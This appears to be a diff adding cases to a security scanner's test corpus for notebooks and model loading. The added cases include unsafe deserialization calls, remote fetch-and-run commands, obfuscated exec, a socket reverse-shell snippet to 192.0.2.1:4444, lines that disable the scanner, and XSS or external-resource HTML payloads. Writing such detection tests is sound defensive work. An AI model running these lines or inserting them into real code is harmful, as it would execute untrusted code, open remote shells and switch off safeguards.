@@ -120,6 +120,10 @@ import skops.io as sio\nsio.load("m.skops", trusted=True)
 from langchain.vectorstores import FAISS\nFAISS.load_local("i", e, allow_dangerous_deserialization=True)
 import torch\nckpt = Lit.load_from_checkpoint("last.ckpt")
 import torch\ntorch.ops.load_library("ops.so")
+import pickle\nclass U(pickle.Unpickler):\n    pass\nU(open("x", "rb")).load()
+m = mlflow.pyfunc.load_model("models:/x/1")
+np.load("x.npy", None, True)
+hf_hub_download(repo_id="a/b", filename="pytorch_model.bin")
 import pickle\npickle\u200b.loads(x)
 """
 
@@ -194,6 +198,17 @@ from urllib.request import urlopen\neval(compile(urlopen(u).read(), "x", "exec")
 import marshal\nexec(marshal.loads(data))
 code = requests.get(u).text\nexec(code)
 exec("import torch\\ntorch.load('x.pt', weights_only=False)")
+!wget https://example.org/a.py\n%run a.py
+!python -c "import base64;exec(base64.b64decode('aGk='))"
+%conda install -c https://example.org/channel x
+!npm install -g https://example.org/x.tgz
+get_ipython().extension_manager.unload_extension("modelscan")
+modelscan.guard.install("off")
+exec(codecs.decode("cevag(1)", "rot13"))
+exec("".join(map(chr, [112, 114])))
+exec("".join(chr(c) for c in data))
+import ctypes\nctypes.CDLL("./x.so")
+import socket, os\ns = socket.socket()\ns.connect(("192.0.2.1", 4444))\nos.dup2(s.fileno(), 0)
 %unload_ext modelscan
 %modelscan allow --once 3
 import torch\ntorch.load(p, weights_only=args.safe)
@@ -242,6 +257,9 @@ OUTPUTS = [
     shown("image/svg+xml", "<svg onload='alert(1)'></svg>"),
     shown("text/markdown", "hello <script>alert(1)</script>"),
     shown("text/markdown", "[x](javascript:alert(1))"),
+    shown("text/html", "<style>@import url(https://example.org/x.css)</style>"),
+    shown("text/html", "<div style=\"background:url('https://example.org/x.png')\">x</div>"),
+    shown("text/latex", "\\href{javascript:alert(1)}{x}"),
     printed("ok \x1b]52;c;Y3VybA==\x07"),
     printed("\x1b]0;title\x07"),
     printed("\x1bP+q544e\x1b\\"),
